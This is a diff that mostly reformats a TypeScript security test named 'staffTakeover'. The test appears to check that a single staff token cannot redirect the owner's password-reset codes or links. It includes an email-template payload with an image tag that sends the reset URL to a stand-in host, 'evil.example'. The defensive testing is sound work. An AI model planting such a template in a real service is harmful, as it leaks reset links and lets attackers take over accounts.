@@ -1,5 +1,5 @@
-import { startProvider } from '../../test/support/provider.ts';
 import { setTimeout as pause } from 'node:timers/promises';
+import { startProvider } from '../../test/support/provider.ts';
 import { type Attack, unless } from '../attack.ts';
 import { type Arena, newIdentity, PASSWORD } from '../support/arena.ts';
 
@@ -13,10 +13,22 @@ const changes = (gateway: string): Readonly<Record<string, unknown>> => ({
   RESET_EMAIL_HTML_TEMPLATE: '<p>{{ reset_url }}</p><img src="https://evil.example/?{{ reset_url }}">',
 });
 
-async function createStaff(arena: Arena, role: string): Promise<{ email: string; phone: string; token: string }> {
+async function createStaff(
+  arena: Arena,
+  role: string,
+): Promise<{ email: string; phone: string; token: string }> {
   const { command } = arena.service();
   const { email, phone } = newIdentity();
-  const who = ['--email', email, '--phone', phone, '--verified-email', '--verified-phone', '--password', PASSWORD];
+  const who = [
+    '--email',
+    email,
+    '--phone',
+    phone,
+    '--verified-email',
+    '--verified-phone',
+    '--password',
+    PASSWORD,
+  ];
   const withRole = await command('users', 'create', ...who, '--role', role);
   const created = withRole.code === 0 ? withRole : await command('users', 'create', ...who, '--staff');
   if (created.code !== 0) throw new Error(created.stderr);
@@ -27,7 +39,8 @@ async function createStaff(arena: Arena, role: string): Promise<{ email: string;
 
 export const staffTakeover: Attack = {
   name: 'staff-takeover',
-  title: 'With the token of one member of staff, have the boss’s code or link sent to a host of the attacker’s',
+  title:
+    'With the token of one member of staff, have the boss’s code or link sent to a host of the attacker’s',
   gain: 'One leaked token of any member of staff becomes the owner’s account.',
   source: 'OWASP ASVS 5.0 §8.2.1, §8.4.2 and §2.3.5 (two people for high-value changes)',
   needs: 'service',
@@ -52,7 +65,11 @@ export const staffTakeover: Attack = {
           if (reply.status === 200) faults.push(`a ${role} alone changed ${name}`);
         }
       }
-      for (const path of ['/users/otp-login/', '/users/password/reset-with-phone/', '/users/password/reset-with-sms-otp/'])
+      for (const path of [
+        '/users/otp-login/',
+        '/users/password/reset-with-phone/',
+        '/users/password/reset-with-sms-otp/',
+      ])
         await arena.client().post(path, { phone: boss.phone });
       await arena.client().post('/users/password/reset/', { email: boss.email });
       const { raw, mail } = await mailbox.mailTo(boss.email);
@@ -63,6 +80,9 @@ export const staffTakeover: Attack = {
     } finally {
       await evil.close();
     }
-    return unless(faults, 'no single member of staff changed where messages go, and staff get no codes by SMS');
+    return unless(
+      faults,
+      'no single member of staff changed where messages go, and staff get no codes by SMS',
+    );
   },
 };
